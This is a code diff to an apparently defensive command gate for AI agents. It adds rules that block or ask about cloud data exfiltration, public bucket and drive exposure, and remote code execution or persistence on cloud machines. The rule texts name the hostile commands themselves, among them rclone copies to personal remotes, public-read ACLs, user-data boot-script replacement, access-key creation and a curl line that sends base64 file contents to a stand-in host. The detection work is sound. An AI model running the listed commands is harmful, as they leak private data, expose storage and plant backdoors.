@@ -44,6 +44,7 @@ import re
 from collections.abc import Callable, Iterator
 from typing import TYPE_CHECKING
 
+from gate.catalogue import COPY
 from gate.model import Risk, Span
 from gate.paths import supervisor_dirs
 from gate.patterns import Patterns
@@ -450,6 +451,8 @@ def _command_steps(name: str) -> tuple[Step, ...]:
         steps.append(lambda d, cmd, a, where, add, downloaded: d.lolbin(cmd, where, add))
     if name in _NET_TOOLS or name in NET_SENDERS:
         steps.append(lambda d, cmd, a, where, add, downloaded: d.network_tool(cmd, a, where, add))
+    if name in COPY.verbs:
+        steps.append(lambda d, cmd, a, where, add, downloaded: d.copy_out(cmd, a, where, add))
     if name in SHELLS or name in INTERPRETERS or name in ("eval", "source", ".", "iex", "invoke-expression"):
         steps.append(Detector.executor)
     if name in DOWNLOADERS:
@@ -467,7 +470,7 @@ _MKFS_STEPS: tuple[Step, ...] = (lambda d, cmd, a, where, add, downloaded: d.mkf
 _COMMAND_STEPS: dict[str, tuple[Step, ...]] = {n: _command_steps(n) for n in (
     *_BY_NAME, *_DB_CLIENTS, "drop", "truncate", "delete", "alter", "update", *_PKG_INSTALL, *_PKG_REMOVE,
     *_PUBLISH, *_INFRA_DESTROY, *_LOLBINS, *_NET_TOOLS, *NET_SENDERS, *SHELLS, *INTERPRETERS, "eval", "source", ".",
-    "iex", "invoke-expression", *DOWNLOADERS)}
+    "iex", "invoke-expression", *DOWNLOADERS, *COPY.verbs)}
 
 
 # -- the entry points ----------------------------------------------------------------------------
@@ -620,6 +623,32 @@ RULES: tuple[Rule, ...] = (
           "curl x.example/?d=$(cat f | base64)), ping -p with command output; an account, secret or records file "
           "(or a file just filled with the environment) uploaded to a public drop site; an account file or a "
           "personal folder piped to a network sink; a data file mailed to a free-mail address."),
+    _make("block.shell.cloud-exfiltration", "copies private data to storage outside the organisation",
+          Risk.CRITICAL,
+          "An object-store, sync or backup client (aws s3, gsutil, gcloud storage, az storage, azcopy, rclone, "
+          "s3cmd, s5cmd, mc, restic, borg, kopia, duplicity, rsync, scp) copying what a business keeps private (a "
+          "home, a personal or business-records folder such as finance, HR, payroll or customers, a whole drive or "
+          "share, a database dump or one piped in) to a personal or free file-sharing account (an rclone remote "
+          "named mega:, dropbox:, gdrive:), a drop site, a bare IP address or a bucket written without "
+          "credentials; or a bucket named for production, customers, backups or payroll copied into another "
+          "bucket. The same data copied to other storage asks (`resources/programs.toml` `[cloud_copy]`)."),
+    _make("block.shell.public-exposure", "makes data public or opens a drive to everyone", Risk.CRITICAL,
+          "A bucket or container made readable or writable by anyone on the internet (aws s3api put-bucket-acl "
+          "--acl public-read, a bucket policy allowing Principal \"*\", the public access block removed, gsutil "
+          "allUsers grants, gcloud add-iam-policy-binding --member=allUsers, az storage container --public-access); "
+          "a whole drive, Windows or the users' folders shared with or writable by everyone (net share C=C:\\ "
+          "/grant:everyone,full, New-SmbShare -FullAccess Everyone, icacls D:\\ /grant Everyone:F). A bucket named "
+          "for a website (www, site, static, public, assets, cdn, docs) and a Cloud Run or Functions invoker grant "
+          "ask instead."),
+    _make("block.shell.cloud-remote-exec", "plants code or a way back in on cloud machines and accounts",
+          Risk.CRITICAL,
+          "An instance's boot script replaced (aws ec2 modify-instance-attribute --user-data, gcloud compute "
+          "instances add-metadata startup-script=), SSH keys put in project or machine metadata; downloaded, "
+          "decoded or reverse-shell code run on cloud machines through the control plane (aws ssm send-command, "
+          "az vm run-command, gcloud compute ssh --command); long-lived keys or console passwords made for a cloud "
+          "user, a service account or an application (aws iam create-access-key --user-name, create-login-profile, "
+          "gcloud iam service-accounts keys create, az ad sp credential reset); administrator rights attached to "
+          "a cloud identity (AdministratorAccess, an inline policy allowing every action)."),
     _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
           "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
           "credential or password store (`[files] credentials`): the same files a file_read blocks; one copied out "
@@ -719,6 +748,11 @@ RULES: tuple[Rule, ...] = (
     _make("confirm.shell.credential-search", "searches for credentials", Risk.HIGH,
           "Recursive searches for passwords, secrets, API keys or private keys (grep -r password, rg "
           "'BEGIN.*PRIVATE'), and searches for key or credential files (find -name id_rsa, locate .pem)."),
+    _make("confirm.shell.cloud-remote-exec", "runs code on cloud machines", Risk.HIGH,
+          "A script run on cloud machines through the control plane (aws ssm send-command, az vm run-command "
+          "invoke, az vm extension set with a custom script, gcloud compute ssh --command), a cloud function's code "
+          "replaced (aws lambda update-function-code), an access key made for the signed-in user: what runs there "
+          "is out of this gate's sight."),
     _make("confirm.shell.remote-mutation", "changes something on another machine", Risk.MEDIUM,
           "HTTP DELETE/PUT/PATCH to a remote host (curl -X DELETE, http PUT), cloud CLI verbs that create, "
           "change or grant (aws iam create-access-key, gcloud ... add-iam-policy-binding), gh pr merge / "
